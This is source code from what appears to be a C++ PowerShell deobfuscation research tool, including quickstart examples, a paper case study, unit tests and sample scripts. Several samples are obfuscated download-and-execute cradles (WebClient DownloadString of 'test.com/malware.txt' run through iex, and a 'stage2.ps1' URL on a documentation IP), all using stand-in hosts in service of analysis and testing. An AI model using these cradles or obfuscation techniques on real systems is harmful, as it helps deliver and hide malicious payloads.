  std::string line;
  while (std::cout << "ps> " && std::getline(std::cin, line)) {
    if (line.empty()) continue;
    if (line == ":quit" || line == ":q" || line == "exit") break;
    try {
      if (line.rfind(":ast ", 0) == 0) {
        std::cout << ps::dump_script(line.substr(5));
        continue;
      }
      if (line.rfind(":deobf ", 0) == 0) {
        std::cout << deobf.deobfuscate(line.substr(7)) << "\n";
        continue;
      }
      const ps::Value result = interp.evaluate_script(line);
      if (!result.is_null()) {
        std::cout << result.to_display_string() << "\n";
      }
    } catch (const ps::ParseError& e) {
      std::cout << ps::format_diagnostic(line, e.offset, e.what());
    } catch (const std::exception& e) {
      std::cout << "error: " << e.what() << "\n";
    }
  }
  return 0;
}
