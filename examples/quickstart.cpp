// Quickstart: deobfuscate a PowerShell one-liner with the public API.
//
//   $ ./quickstart ["<script>"]
//
// Without an argument it runs the paper's Listing 2/3/4 examples.

#include <cstdio>
#include <string>

#include "core/deobfuscator.h"
#include "obfuscator/obfuscator.h"

namespace {

void show(const ideobf::InvokeDeobfuscator& deobf, const std::string& title,
          const std::string& script) {
  ideobf::DeobfuscationReport report;
  const std::string out = deobf.deobfuscate(script, report);
  std::printf("--- %s ---\n", title.c_str());
  std::printf("input:\n%s\n", script.c_str());
  std::printf("output:\n%s\n", out.c_str());
  std::printf(
      "(ticks removed: %d, aliases expanded: %d, case normalized: %d,\n"
      " pieces recovered: %d, variables traced: %d, layers unwrapped: %d)\n\n",
      report.token.ticks_removed, report.token.aliases_expanded,
      report.token.case_normalized, report.recovery.pieces_recovered,
      report.recovery.variables_traced, report.multilayer.layers_unwrapped);
}

}  // namespace

int main(int argc, char** argv) {
  ideobf::InvokeDeobfuscator deobf;

  if (argc > 1) {
    show(deobf, "command line input", argv[1]);
    return 0;
  }

  show(deobf, "Listing 2 (L1: ticking + random case)",
       "(nE`w-oBjE`Ct nET.wE`bcLiEnT).DoWNlOaDsTrInG('https://test.com/"
       "malware.txt')");

  show(deobf, "Listing 3 (L2: string reordering + replace)",
       "Invoke-Expression ((\"{13}{0}{8}{6}{12}{16}{7}{14}{10}{1}{9}{5}{15}"
       "{3}{2}{11}{4}\" -f 'e','Uht','om/malwar','t.c','.txtjYU)','://','et',"
       "'nloadst','ct N','tps','(jY','e','.WebCl','(New-Obj','ring','tes',"
       "'ient).dow').RepLACe('jYU',[STRiNg][CHar]39))");

  ideobf::Obfuscator obf(4);
  show(deobf, "Listing 4 style (L3: special-character encoding + bxor)",
       obf.apply(ideobf::Technique::SpecialCharEncoding,
                 "Write-Host 'hello from listing 4'"));

  return 0;
}
