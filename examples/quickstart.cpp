// Quickstart: deobfuscate a PowerShell one-liner with the public API.
//
//   $ ./quickstart ["<script>"]
//
// Without an argument it runs the paper's Listing 2/3 examples plus a
// special-character-encoded sample.
//
// This example compiles against include/ideobf/ ONLY (the build enforces it
// via the api_surface_check target): everything a consumer needs — Engine,
// Request, Response, Options — comes from the stable facade.

#include <cstdio>
#include <string>

#include "ideobf/api.h"

namespace {

void show(const ideobf::Engine& engine, const std::string& title,
          const std::string& script) {
  ideobf::Request request;
  request.source = script;
  const ideobf::Response response = engine.handle(request);
  const ideobf::DeobfuscationReport& report = response.report;
  std::printf("--- %s ---\n", title.c_str());
  std::printf("input:\n%s\n", script.c_str());
  std::printf("output:\n%s\n", response.result.c_str());
  std::printf(
      "(ticks removed: %d, aliases expanded: %d, case normalized: %d,\n"
      " pieces recovered: %d, variables traced: %d, layers unwrapped: %d)\n\n",
      report.token.ticks_removed, report.token.aliases_expanded,
      report.token.case_normalized, report.recovery.pieces_recovered,
      report.recovery.variables_traced, report.multilayer.layers_unwrapped);
}

}  // namespace

int main(int argc, char** argv) {
  ideobf::Engine engine;

  if (argc > 1) {
    show(engine, "command line input", argv[1]);
    return 0;
  }

  show(engine, "Listing 2 (L1: ticking + random case)",
       "(nE`w-oBjE`Ct nET.wE`bcLiEnT).DoWNlOaDsTrInG('https://test.com/"
       "malware.txt')");

  show(engine, "Listing 3 (L2: string reordering + replace)",
       "Invoke-Expression ((\"{13}{0}{8}{6}{12}{16}{7}{14}{10}{1}{9}{5}{15}"
       "{3}{2}{11}{4}\" -f 'e','Uht','om/malwar','t.c','.txtjYU)','://','et',"
       "'nloadst','ct N','tps','(jY','e','.WebCl','(New-Obj','ring','tes',"
       "'ient).dow').RepLACe('jYU',[STRiNg][CHar]39))");

  show(engine, "Listing 4 style (L3: string piecing through variables)",
       "$p1 = 'Write'; $p2 = '-Host'; $msg = 'hello from listing 4';\n"
       "& ($p1 + $p2) $msg");

  return 0;
}
