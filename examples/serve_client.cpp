// serve_client: talk to a running `ideobf serve` daemon from C++.
//
//   $ ideobf serve --socket /tmp/ideobf.sock &
//   $ ./serve_client /tmp/ideobf.sock "wr`ite-ho`st 'hello'"
//
// The client half of the unified API: the same ideobf::Request goes over
// the wire, and the same ideobf::Response comes back, as if the engine were
// in-process. Compiles against include/ideobf/ ONLY (enforced by the
// api_surface_check target).

#include <cstdio>
#include <string>

#include "ideobf/client.h"

int main(int argc, char** argv) {
  if (argc < 3) {
    std::fprintf(stderr, "usage: serve_client <socket-path> <script>\n");
    return 2;
  }
  try {
    ideobf::ServeClient client = ideobf::ServeClient::connect_unix(argv[1]);

    ideobf::Request request;
    request.source = argv[2];
    request.id = "example";
    request.deadline_ms = 5000;  // rides the governor envelope server-side

    const ideobf::ServeReply reply = client.call(request);
    std::printf("status: %s\n", reply.status.c_str());
    std::printf("result:\n%s\n", reply.response.result.c_str());
    if (reply.response.failure != ideobf::FailureKind::None) {
      std::printf("failure: %s (%s)\n", to_string(reply.response.failure),
                  reply.response.failure_detail.c_str());
    }
    std::printf("rung: %d, seconds: %.4f\n",
                reply.response.report.degradation_rung, reply.response.seconds);
    return reply.response.ok ? 0 : 1;
  } catch (const std::exception& e) {
    std::fprintf(stderr, "serve_client: %s\n", e.what());
    return 1;
  }
}
