iex '$q = "inner"; Write-Output $q; Write-Output "layer"'
'Write-Output "piped layer"' | iex
powershell -EncodedCommand VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAnAGUAbgBjACcACgA=
