$host1 = "198.51.100.7"
$port = 8443
$path = "/stage2.ps1"
$u = "http://" + $host1 + ":" + $port + $path
Write-Output $u
$cmd = [string]::Join('', @('Wri', 'te-Ou', 'tput'))
& $cmd "joined"
