$a = "down" + "load"
$b = 'http://' + 'example.test/' + $a + '.ps1'
Wr`it`e-Ou`tp`ut ("fetching " + $b)
I`E`X ('Write-Output ' + "'" + 'layer done' + "'")
