// The paper's section IV-C5 case study (Fig 7 and Fig 8): one script that
// stacks L1, L2 and L3 obfuscation, walked through every phase of
// Invoke-Deobfuscation and then through all five tools side by side.

#include <cstdio>
#include <string>

#include "baselines/baseline.h"
#include "core/deobfuscator.h"
#include "core/recovery.h"
#include "core/reformat.h"
#include "core/rename.h"
#include "core/token_pass.h"

namespace {

std::string fig7a_case() {
  // Mirrors Fig 7(a): an iex-wrapped reordered string, Base64 split across
  // two randomly named variables, and the $PSHome Invoke-Expression trick
  // around a blocklisted download.
  const std::string b64a = "aAB0AHQAcABzADoALwAvAHQAZQBzAHQALgBjAG";
  const std::string b64b = "8AbQAvAG0AYQBsAHcAYQByAGUALgB0AHgAdAA=";
  return
      "i`E`x (\"{2}{0}{1}\" -f 'ost h', 'ello', 'write-h')\n"
      "$xdjmd = '" + b64a + "'\n"
      "$lsffs = '" + b64b + "'\n"
      "$sdfs = [TeXT.eNcOdINg]::Unicode.GetString([Convert]::"
      "FromBase64String($xdjmd + $lsffs))\n"
      ".($psHoME[4]+$PShOME[30]+'x') (NeW-oBJeCt "
      "Net.WebClient).downloadstring($sdfs)";
}

void banner(const char* title) {
  std::printf("\n==================== %s ====================\n", title);
}

}  // namespace

int main() {
  const std::string script = fig7a_case();

  banner("Fig 7(a): the obfuscated case");
  std::printf("%s\n", script.c_str());

  // ---- Phase walk-through (Fig 7 b-d) ----
  banner("Fig 7(b): after token parsing");
  ideobf::TokenPassStats token_stats;
  const std::string after_tokens = ideobf::token_pass(script, &token_stats);
  std::printf("%s\n", after_tokens.c_str());
  std::printf("(ticks removed: %d, case normalized: %d, aliases: %d)\n",
              token_stats.ticks_removed, token_stats.case_normalized,
              token_stats.aliases_expanded);

  banner("Fig 7(c): after recovery based on AST + variable tracing");
  ideobf::RecoveryOptions ropts;
  ideobf::RecoveryStats rstats;
  const std::string after_recovery =
      ideobf::recovery_pass(after_tokens, ropts, &rstats);
  std::printf("%s\n", after_recovery.c_str());
  std::printf("(pieces recovered: %d, variables traced: %d, substituted: %d)\n",
              rstats.pieces_recovered, rstats.variables_traced,
              rstats.variables_substituted);

  banner("Fig 7(d): after renaming and reformatting (full pipeline)");
  ideobf::InvokeDeobfuscator deobf;
  std::printf("%s\n", deobf.deobfuscate(script).c_str());

  // ---- Fig 8: all tools side by side ----
  for (const auto& tool : ideobf::make_all_tools()) {
    banner(("Fig 8: " + tool->name()).c_str());
    std::printf("%s\n", tool->run(script).script.c_str());
  }
  return 0;
}
