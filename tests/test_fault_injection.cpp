// The fault-injection layer: every named site fires on demand, the
// degradation ladder walks exactly one rung per injected failure, worker
// sealing survives non-std throws, and an armed-but-silent injector leaves
// the pipeline byte-identical.

#include <gtest/gtest.h>

#include "core/batch.h"
#include "core/deobfuscator.h"
#include "core/fault.h"
#include "sandbox/sandbox.h"

namespace {

using namespace ideobf;

constexpr const char* kBenign =
    "$x = 'Wri' + 'te-Out' + 'put'\n& $x ('he' + 'llo')\n";
constexpr const char* kLayered = "iex 'Write-Output (1 + 2)'\n";
// powershell -EncodedCommand with a multi-statement UTF-16LE/base64 payload
// ("$v = 9 / Write-Output $v / Write-Output $v") — the form only the
// multilayer phase can unwrap, so it reliably reaches MultilayerDecode.
constexpr const char* kEncoded =
    "powershell -EncodedCommand "
    "JAB2ACAAPQAgADkACgBXAHIAaQB0AGUALQBPAHUAdABwAHUAdAAgACQAdgAKAFcAcgBpAHQA"
    "ZQAtAE8AdQB0AHAAdQB0ACAAJAB2AA==\n";

Options::Limits lenient_governor() {
  Options::Limits governor;
  governor.deadline_seconds = 30.0;
  return governor;
}

TEST(FaultInjector, CountsVisitsAndHonorsSkipAndMaxFires) {
  FaultInjector fi;
  FaultSpec spec;
  spec.action = FaultAction::Throw;
  spec.skip_first = 1;
  spec.max_fires = 1;
  fi.arm(FaultSite::Parse, spec);
  EXPECT_FALSE(fi.inject(FaultSite::Parse));       // skipped
  EXPECT_THROW(fi.inject(FaultSite::Parse), FaultError);
  EXPECT_FALSE(fi.inject(FaultSite::Parse));       // max_fires exhausted
  EXPECT_EQ(fi.visits(FaultSite::Parse), 3);
  EXPECT_EQ(fi.fires(FaultSite::Parse), 1);
  fi.reset();
  EXPECT_EQ(fi.visits(FaultSite::Parse), 0);
}

TEST(FaultInjector, DisarmedSiteIsInert) {
  FaultInjector fi;
  EXPECT_FALSE(fi.inject(FaultSite::SandboxRun));
  std::string text = "unchanged";
  EXPECT_FALSE(fi.inject(FaultSite::MultilayerDecode, &text));
  EXPECT_EQ(text, "unchanged");
}

// --- one ladder rung per injected failure --------------------------------

TEST(Ladder, OneFaultLandsOnRungOne) {
  FaultInjector fi;
  FaultSpec spec;
  spec.action = FaultAction::Throw;
  spec.max_fires = 1;
  fi.arm(FaultSite::Parse, spec);
  Options opts;
  opts.fault_injector = &fi;
  const InvokeDeobfuscator deobf(opts);
  DeobfuscationReport report;
  const std::string out = deobf.deobfuscate(kBenign, report, lenient_governor());
  EXPECT_EQ(report.degradation_rung, 1);
  EXPECT_EQ(report.attempts, 2);
  EXPECT_EQ(report.failure, ps::FailureKind::Internal);
  EXPECT_NE(out, kBenign);  // rung 1 still runs the full pipeline
}

TEST(Ladder, TwoFaultsLandOnRungTwo) {
  FaultInjector fi;
  FaultSpec spec;
  spec.action = FaultAction::Throw;
  spec.max_fires = 2;
  fi.arm(FaultSite::Parse, spec);
  Options opts;
  opts.fault_injector = &fi;
  const InvokeDeobfuscator deobf(opts);
  DeobfuscationReport report;
  (void)deobf.deobfuscate(kBenign, report, lenient_governor());
  EXPECT_EQ(report.degradation_rung, 2);
  EXPECT_EQ(report.attempts, 3);
}

TEST(Ladder, PersistentFaultServesPassthrough) {
  FaultInjector fi;
  FaultSpec spec;
  spec.action = FaultAction::Throw;  // unlimited fires
  fi.arm(FaultSite::Parse, spec);
  Options opts;
  opts.fault_injector = &fi;
  const InvokeDeobfuscator deobf(opts);
  DeobfuscationReport report;
  EXPECT_EQ(deobf.deobfuscate(kBenign, report, lenient_governor()), kBenign);
  EXPECT_EQ(report.degradation_rung, 3);
  EXPECT_EQ(report.attempts, 3);
  EXPECT_EQ(report.failure, ps::FailureKind::Internal);
  EXPECT_EQ(fi.fires(FaultSite::Parse), 3);
}

TEST(Ladder, PieceExecutionFaultHealsOnStaticRung) {
  FaultInjector fi;
  FaultSpec spec;
  spec.action = FaultAction::Throw;  // unlimited: rungs 0 and 1 both die
  fi.arm(FaultSite::PieceExecution, spec);
  Options opts;
  opts.fault_injector = &fi;
  const InvokeDeobfuscator deobf(opts);
  DeobfuscationReport report;
  const std::string out = deobf.deobfuscate(kBenign, report, lenient_governor());
  // Rung 2 runs no recovery, so the armed site is never reached again.
  EXPECT_EQ(report.degradation_rung, 2);
  EXPECT_GT(fi.visits(FaultSite::PieceExecution), 0);
  EXPECT_FALSE(out.empty());
}

TEST(Ladder, MemoLookupSiteIsVisited) {
  FaultInjector fi;
  FaultSpec spec;
  spec.action = FaultAction::Throw;
  spec.max_fires = 1;
  fi.arm(FaultSite::MemoLookup, spec);
  Options opts;
  opts.fault_injector = &fi;
  const InvokeDeobfuscator deobf(opts);
  DeobfuscationReport report;
  (void)deobf.deobfuscate(kBenign, report, lenient_governor());
  EXPECT_EQ(fi.fires(FaultSite::MemoLookup), 1);
  EXPECT_EQ(report.degradation_rung, 1);
}

TEST(Ladder, CorruptedMultilayerPayloadRollsBack) {
  const InvokeDeobfuscator plain;
  DeobfuscationReport plain_report;
  (void)plain.deobfuscate(kEncoded, plain_report);
  ASSERT_GT(plain_report.multilayer.layers_unwrapped, 0);

  FaultInjector fi;
  FaultSpec spec;
  spec.action = FaultAction::Corrupt;
  spec.corrupt_text = "this is (((( not powershell";
  fi.arm(FaultSite::MultilayerDecode, spec);
  Options opts;
  opts.fault_injector = &fi;
  const InvokeDeobfuscator deobf(opts);
  DeobfuscationReport report;
  const std::string out = deobf.deobfuscate(kEncoded, report, lenient_governor());
  // The corrupted payload fails its syntax check, so the layer is simply
  // not unwrapped — no throw, no degradation, output still valid.
  EXPECT_GT(fi.fires(FaultSite::MultilayerDecode), 0);
  EXPECT_EQ(report.degradation_rung, 0);
  EXPECT_EQ(report.multilayer.layers_unwrapped, 0);
  // The encoded command survives instead of being inlined.
  EXPECT_NE(out.find("ncodedCommand"), std::string::npos);
}

TEST(Ladder, ArmedButSilentInjectorIsByteIdentical) {
  const InvokeDeobfuscator plain;
  DeobfuscationReport plain_report;
  const std::string expected = plain.deobfuscate(kLayered, plain_report);

  FaultInjector fi;
  FaultSpec spec;
  spec.action = FaultAction::Throw;
  spec.skip_first = 1000000;  // armed, never fires
  fi.arm(FaultSite::Parse, spec);
  fi.arm(FaultSite::PieceExecution, spec);
  fi.arm(FaultSite::MultilayerDecode, spec);
  Options opts;
  opts.fault_injector = &fi;
  const InvokeDeobfuscator deobf(opts);
  DeobfuscationReport report;
  EXPECT_EQ(deobf.deobfuscate(kLayered, report, lenient_governor()), expected);
  EXPECT_EQ(report.degradation_rung, 0);
  EXPECT_EQ(report.failure, ps::FailureKind::None);
  EXPECT_EQ(fi.fires(FaultSite::Parse), 0);
  EXPECT_GT(fi.visits(FaultSite::Parse), 0);
}

// --- non-std throws ------------------------------------------------------

TEST(NonStd, GovernedCallClassifiesNonStdThrow) {
  FaultInjector fi;
  FaultSpec spec;
  spec.action = FaultAction::ThrowNonStd;
  spec.max_fires = 1;
  fi.arm(FaultSite::Parse, spec);
  Options opts;
  opts.fault_injector = &fi;
  const InvokeDeobfuscator deobf(opts);
  DeobfuscationReport report;
  (void)deobf.deobfuscate(kBenign, report, lenient_governor());
  EXPECT_EQ(report.failure, ps::FailureKind::Internal);
  EXPECT_EQ(report.failure_detail, "non-standard exception");
  EXPECT_EQ(report.degradation_rung, 1);
}

TEST(NonStd, UngovernedBatchWorkerSurvivesNonStdThrow) {
  FaultInjector fi;
  FaultSpec spec;
  spec.action = FaultAction::ThrowNonStd;  // unlimited
  fi.arm(FaultSite::Parse, spec);
  Options opts;
  opts.fault_injector = &fi;
  const InvokeDeobfuscator deobf(opts);
  const std::vector<std::string> scripts(4, kBenign);
  BatchReport report;
  const auto out = deobfuscate_batch(deobf, scripts, report, 2u);
  ASSERT_EQ(out.size(), scripts.size());
  for (std::size_t i = 0; i < scripts.size(); ++i) {
    EXPECT_FALSE(report.items[i].ok);
    EXPECT_EQ(report.items[i].failure, ps::FailureKind::Internal);
    EXPECT_EQ(report.items[i].error, "non-standard exception");
    EXPECT_EQ(out[i], scripts[i]);
  }
}

// --- the sandbox site ----------------------------------------------------

TEST(SandboxFaults, NonStdThrowIsRecordedNotFatal) {
  FaultInjector fi;
  FaultSpec spec;
  spec.action = FaultAction::ThrowNonStd;
  fi.arm(FaultSite::SandboxRun, spec);
  SandboxOptions opts;
  opts.fault_injector = &fi;
  const Sandbox sandbox(opts);
  const BehaviorProfile profile = sandbox.run("Write-Output 'hi'");
  EXPECT_FALSE(profile.executed_ok);
  EXPECT_EQ(profile.failure, ps::FailureKind::Internal);
  EXPECT_EQ(profile.error, "non-standard exception");
}

TEST(SandboxFaults, DeadlinePlusDelayYieldsTimeout) {
  FaultInjector fi;
  FaultSpec spec;
  spec.action = FaultAction::Delay;
  spec.delay_seconds = 0.25;
  fi.arm(FaultSite::SandboxRun, spec);
  SandboxOptions opts;
  opts.deadline_seconds = 0.2;
  opts.max_steps = std::size_t{1} << 40;
  opts.fault_injector = &fi;
  const Sandbox sandbox(opts);
  // Enough steps after the delay for the strided deadline check to run.
  const BehaviorProfile profile =
      sandbox.run("for ($i = 0; $i -lt 5000; $i++) { $i }");
  EXPECT_FALSE(profile.executed_ok);
  EXPECT_EQ(profile.failure, ps::FailureKind::Timeout);
}

TEST(SandboxFaults, StepLimitIsClassified) {
  SandboxOptions opts;
  opts.max_steps = 2000;
  const Sandbox sandbox(opts);
  const BehaviorProfile profile = sandbox.run("while ($true) { 1 }");
  EXPECT_FALSE(profile.executed_ok);
  EXPECT_EQ(profile.failure, ps::FailureKind::StepLimit);
}

TEST(SandboxFaults, CleanRunHasNoFailure) {
  SandboxOptions opts;
  opts.deadline_seconds = 30.0;
  const Sandbox sandbox(opts);
  const BehaviorProfile profile = sandbox.run("Write-Output 'hi'");
  EXPECT_TRUE(profile.executed_ok);
  EXPECT_EQ(profile.failure, ps::FailureKind::None);
}

}  // namespace
