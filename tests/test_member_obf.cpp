// Tests for dynamic-member obfuscation ($wc.('Download'+'String')($u)) and
// the exfil corpus family.

#include <gtest/gtest.h>

#include "core/deobfuscator.h"
#include "corpus/corpus.h"
#include "obfuscator/obfuscator.h"
#include "pslang/alias_table.h"
#include "psast/parser.h"
#include "psinterp/interpreter.h"
#include "sandbox/sandbox.h"

namespace ideobf {
namespace {

bool contains_ci(std::string_view haystack, std::string_view needle) {
  return ps::to_lower(haystack).find(ps::to_lower(needle)) != std::string::npos;
}

TEST(MemberObf, RewritesCallSites) {
  Obfuscator obf(61);
  const std::string src =
      "$client = New-Object Net.WebClient\n"
      "$client.DownloadString('http://m.test/x')\n";
  const std::string out = obf.obfuscate_member_calls(src);
  ASSERT_NE(out, src);
  EXPECT_TRUE(ps::is_valid_syntax(out)) << out;
  EXPECT_EQ(out.find(".DownloadString("), std::string::npos) << out;
}

TEST(MemberObf, DynamicMemberExecutes) {
  ps::Interpreter interp;
  EXPECT_EQ(interp.evaluate_script("'abXcd'.('Re'+'place')('X','')")
                .to_display_string(),
            "abcd");
}

TEST(MemberObf, BehaviorPreserved) {
  Obfuscator obf(62);
  Sandbox sandbox;
  const std::string src =
      "$client = New-Object Net.WebClient\n"
      "$client.DownloadString('http://m.test/x') | Out-Null\n";
  const std::string out = obf.obfuscate_member_calls(src);
  EXPECT_TRUE(Sandbox::same_network_behavior(sandbox.run(src), sandbox.run(out)))
      << out;
}

TEST(MemberObf, RecoveryReducesMemberExpression) {
  Obfuscator obf(63);
  InvokeDeobfuscator deobf;
  const std::string src = "'hXi'.('Re'+'place')('X','-')";
  const std::string out = deobf.deobfuscate(src);
  // Either the whole piece executes to 'h-i' or at least the member
  // expression reduces to a constant.
  EXPECT_TRUE(contains_ci(out, "'h-i'") || contains_ci(out, "'Replace'")) << out;
}

TEST(MemberObf, ShortMembersUntouched) {
  Obfuscator obf(64);
  const std::string src = "$s.Trim()";
  EXPECT_EQ(obf.obfuscate_member_calls(src), src);
}

TEST(ExfilFamily, RendersAndBehaves) {
  CorpusGenerator gen(71);
  Sandbox sandbox;
  InvokeDeobfuscator deobf;
  int seen = 0;
  for (int i = 0; i < 40 && seen < 3; ++i) {
    const Sample s = gen.generate();
    if (s.family != "exfil") continue;
    ++seen;
    EXPECT_TRUE(ps::is_valid_syntax(s.obfuscated));
    const BehaviorProfile a = sandbox.run(s.original);
    const BehaviorProfile b = sandbox.run(deobf.deobfuscate(s.obfuscated));
    EXPECT_TRUE(a.has_network());
    EXPECT_TRUE(Sandbox::same_network_behavior(a, b)) << s.obfuscated;
  }
  EXPECT_GE(seen, 1);
}

}  // namespace
}  // namespace ideobf
