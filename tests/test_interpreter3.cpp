// Third interpreter battery: string interpolation edge cases, encoding
// chains, nested invocation depth, and diagnostics.

#include <gtest/gtest.h>

#include "core/token_pass.h"
#include "psast/diagnostics.h"
#include "psast/parser.h"
#include "psinterp/interpreter.h"

namespace ps {
namespace {

Value run(std::string_view script) {
  Interpreter interp;
  return interp.evaluate_script(script);
}

std::string run_str(std::string_view script) { return run(script).to_display_string(); }

// ------------------------------------------------------- interpolation

TEST(Interp3, BracedInterpolation) {
  EXPECT_EQ(run_str("$n = 'world'; \"hi ${n}!\""), "hi world!");
}

TEST(Interp3, EnvInterpolation) {
  EXPECT_EQ(run_str("\"user=$env:USERNAME\""), "user=user");
}

TEST(Interp3, EscapedDollarStaysLiteral) {
  EXPECT_EQ(run_str("$v = 5; \"`$v is $v\""), "$v is 5");
}

TEST(Interp3, AdjacentVariables) {
  EXPECT_EQ(run_str("$a='x'; $b='y'; \"$a$b\""), "xy");
}

TEST(Interp3, SubexpressionWithMethodCall) {
  EXPECT_EQ(run_str("$s = 'ab'; \"len=$($s.Length)\""), "len=2");
}

TEST(Interp3, UnknownVariableExpandsEmpty) {
  EXPECT_EQ(run_str("\"[$nope]\""), "[]");
}

TEST(Interp3, NestedQuotesInSubexpression) {
  EXPECT_EQ(run_str("\"v=$('a' + 'b')\""), "v=ab");
}

TEST(Interp3, DollarAtEndIsLiteral) {
  EXPECT_EQ(run_str("\"cost: 5$\""), "cost: 5$");
}

TEST(Interp3, HereDoubleInterpolates) {
  EXPECT_EQ(run_str("$x = 'X'; @\"\nval $x\n\"@"), "val X");
}

// --------------------------------------------------------- deep chains

TEST(Interp3, Base64OfBase64) {
  // Double-encoded payloads unwind layer by layer.
  Interpreter interp;
  const std::string inner = "'done'";
  const std::string b64_1 = interp.evaluate_script(
      "[Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes(\"" +
      inner + "\"))").to_display_string();
  const std::string b64_2 = interp.evaluate_script(
      "[Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes('" + b64_1 +
      "'))").to_display_string();
  const std::string script =
      "iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String("
      "[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('" +
      b64_2 + "')))))";
  EXPECT_EQ(interp.evaluate_script(script).to_display_string(), "done");
}

TEST(Interp3, CharMathChain) {
  EXPECT_EQ(run_str("-join ((105,101,120) | % { [char]([int]$_) })"), "iex");
  EXPECT_EQ(run_str("[string][char](104+1)"), "i");
}

TEST(Interp3, SplitEmptyPieces) {
  // Splitting produces empty pieces around adjacent delimiters; they join
  // away cleanly.
  EXPECT_EQ(run_str("('a,,b' -split ',') -join '/'"), "a//b");
}

TEST(Interp3, JoinOnScalar) { EXPECT_EQ(run_str("'solo' -join '-'"), "solo"); }

TEST(Interp3, ReverseStringIdioms) {
  EXPECT_EQ(run_str("$s = 'cba'; [string]::Join('', $s[($s.Length-1)..0])"),
            "abc");
  EXPECT_EQ(run_str("-join ([char[]]'dcba')[3..0]"), "abcd");
}

// ------------------------------------------------------------ robustness

TEST(Interp3, VeryDeepIexNesting) {
  // 10 nested invocation layers stay within the default depth limit.
  std::string script = "'42'";
  for (int i = 0; i < 10; ++i) {
    std::string quoted;
    for (char c : script) {
      if (c == '\'') quoted += "''";
      else quoted.push_back(c);
    }
    script = "iex '" + quoted + "'";
  }
  EXPECT_EQ(run_str(script), "42");
}

TEST(Interp3, StepBudgetResetsPerTopLevelScript) {
  // A long-lived interpreter must not accumulate steps across independent
  // evaluations (regression: the substrate bench tripped the limit after
  // thousands of reuses).
  InterpreterOptions opts;
  opts.max_steps = 2000;
  Interpreter interp(opts);
  for (int i = 0; i < 200; ++i) {
    EXPECT_EQ(interp.evaluate_script("'a'+'b'").to_display_string(), "ab");
  }
}

TEST(Interp3, HugeStringGuard) {
  InterpreterOptions opts;
  opts.max_string = 1000;
  Interpreter interp(opts);
  EXPECT_THROW(interp.evaluate_script("'x' * 100000"), LimitError);
}

TEST(Interp3, ScriptBlockDepthGuard) {
  InterpreterOptions opts;
  opts.max_depth = 4;
  Interpreter interp(opts);
  EXPECT_THROW(
      interp.evaluate_script("function Rec { Rec }; Rec"),
      LimitError);
}

// ------------------------------------------------------------- tokenpass

TEST(Interp3, TokenPassJoinsLineContinuations) {
  ideobf::TokenPassStats stats;
  const std::string out =
      ideobf::token_pass("Write-Host `\n hello", &stats);
  EXPECT_EQ(out.find('`'), std::string::npos);
  EXPECT_TRUE(is_valid_syntax(out)) << out;
  EXPECT_GE(stats.ticks_removed, 1);
}

// ------------------------------------------------------------ diagnostics

TEST(Diagnostics, PositionOf) {
  const std::string src = "line1\nline2\nline3";
  EXPECT_EQ(position_of(src, 0).line, 1);
  EXPECT_EQ(position_of(src, 0).column, 1);
  EXPECT_EQ(position_of(src, 6).line, 2);
  EXPECT_EQ(position_of(src, 8).column, 3);
}

TEST(Diagnostics, CaretPointsAtOffset) {
  const std::string src = "$a = (1 +";
  std::string msg;
  std::size_t offset = 0;
  try {
    parse(src);
    FAIL() << "expected a parse error";
  } catch (const ParseError& e) {
    msg = e.what();
    offset = e.offset;
  }
  const std::string rendered = format_diagnostic(src, offset, msg);
  EXPECT_NE(rendered.find("error at line 1"), std::string::npos);
  EXPECT_NE(rendered.find('^'), std::string::npos);
  EXPECT_NE(rendered.find(src), std::string::npos);
}

TEST(Diagnostics, LongLinesAreWindowed) {
  const std::string src = std::string(300, 'a') + "\x01";
  const std::string rendered = format_diagnostic(src, 300, "boom");
  for (const auto& line : {rendered}) {
    EXPECT_LT(line.find('^'), line.size());
  }
  // Rendered body stays within the window plus decorations.
  std::istringstream stream(rendered);
  std::string line;
  while (std::getline(stream, line)) {
    EXPECT_LE(line.size(), 140u);
  }
}

}  // namespace
}  // namespace ps
