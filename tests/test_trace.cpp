// Tests for the transformation-trace (explain) mode.

#include <gtest/gtest.h>

#include "core/deobfuscator.h"
#include "core/trace.h"

namespace ideobf {
namespace {

std::vector<TraceEvent> trace_of(std::string_view script,
                                 Options opts = {}) {
  opts.telemetry.collect_trace = true;
  InvokeDeobfuscator deobf(opts);
  DeobfuscationReport report;
  deobf.deobfuscate(script, report);
  return report.trace;
}

int count_kind(const std::vector<TraceEvent>& trace, TraceEvent::Kind kind) {
  int n = 0;
  for (const TraceEvent& e : trace) {
    if (e.kind == kind) ++n;
  }
  return n;
}

TEST(Trace, OffByDefault) {
  InvokeDeobfuscator deobf;
  DeobfuscationReport report;
  deobf.deobfuscate("IeX ('a'+'b')", report);
  EXPECT_TRUE(report.trace.empty());
}

TEST(Trace, TokenEventsCarryBeforeAfter) {
  const auto trace = trace_of("i`E`x 'Write-Host hi'");
  ASSERT_GE(count_kind(trace, TraceEvent::Kind::TokenNormalized), 1);
  bool found = false;
  for (const TraceEvent& e : trace) {
    if (e.kind == TraceEvent::Kind::TokenNormalized &&
        e.before == "i`E`x" && e.after == "Invoke-Expression") {
      found = true;
    }
  }
  EXPECT_TRUE(found);
}

TEST(Trace, RecoveryAndUnwrapEvents) {
  const auto trace = trace_of("iex ('Write-Host'+' traced')");
  EXPECT_GE(count_kind(trace, TraceEvent::Kind::PieceRecovered), 1);
  EXPECT_GE(count_kind(trace, TraceEvent::Kind::LayerUnwrapped), 1);
}

TEST(Trace, VariableEvents) {
  const auto trace =
      trace_of("$u = 'http://t.test/'\nWrite-Host ($u + 'x')");
  EXPECT_GE(count_kind(trace, TraceEvent::Kind::VariableTraced), 1);
  EXPECT_GE(count_kind(trace, TraceEvent::Kind::VariableSubstituted), 1);
}

TEST(Trace, RenameEvents) {
  const auto trace = trace_of("$qzxwv = 1; Write-Host $qzxwv");
  ASSERT_GE(count_kind(trace, TraceEvent::Kind::Renamed), 1);
  bool found = false;
  for (const TraceEvent& e : trace) {
    if (e.kind == TraceEvent::Kind::Renamed && e.after == "$var0") found = true;
  }
  EXPECT_TRUE(found);
}

TEST(Trace, RenderIsReadable) {
  const auto trace = trace_of("iex ('a'+'b')");
  const std::string rendered = render_trace(trace);
  EXPECT_NE(rendered.find("recovered"), std::string::npos);
  EXPECT_NE(rendered.find("->"), std::string::npos);
}

